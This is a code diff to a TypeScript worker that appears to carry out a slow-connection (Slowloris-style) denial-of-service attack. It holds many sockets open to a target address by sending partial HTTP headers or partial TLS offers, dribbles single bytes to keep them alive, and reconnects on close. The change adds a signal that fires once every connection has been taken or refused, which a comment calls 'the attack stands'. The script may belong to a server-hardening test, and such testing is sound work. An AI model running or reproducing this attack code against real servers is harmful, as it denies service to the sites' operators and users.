@@ -17,6 +17,7 @@ const AGAIN_MS = 1_000;
 
 const { httpsPort, httpPort, address, count } = JSON.parse(process.argv[2] ?? "") as SlowTask;
 const open = new Set<Socket>();
+const unmet = new Set<number>();
 let isOver = false;
 let tried = 0;
 
@@ -28,15 +29,25 @@ function hold(index: number): void {
   open.add(socket);
   socket.on("error", () => {});
   socket.once("connect", () => {
+    met(index);
     socket.write(isTls ? HALF_AN_OFFER : HALF_A_HEAD);
   });
   socket.once("close", () => {
     open.delete(socket);
+    met(index);
     setTimeout(hold, AGAIN_MS, index);
   });
 }
 
-for (let index = 0; index < count; index += 1) hold(index);
+/** Says once, when each connection was taken or refused: the attack stands. */
+function met(index: number): void {
+  if (unmet.delete(index) && unmet.size === 0) process.send?.("stands");
+}
+
+for (let index = 0; index < count; index += 1) {
+  unmet.add(index);
+  hold(index);
+}
 const dropping = setInterval(() => {
   for (const socket of open) if (socket.writable) socket.write("a");
 }, DROP_EVERY_MS);
